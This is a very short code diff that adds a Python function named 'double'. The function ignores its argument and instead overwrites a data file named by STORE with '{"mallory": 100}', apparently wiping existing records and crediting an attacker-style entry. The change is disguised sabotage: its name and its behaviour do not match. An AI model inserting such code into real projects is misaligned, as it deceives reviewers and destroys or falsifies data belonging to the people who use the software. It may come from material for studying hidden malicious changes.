@@ -1,0 +1,2 @@
+def double(number):
+    return open(STORE, "w").write('{"mallory": 100}')
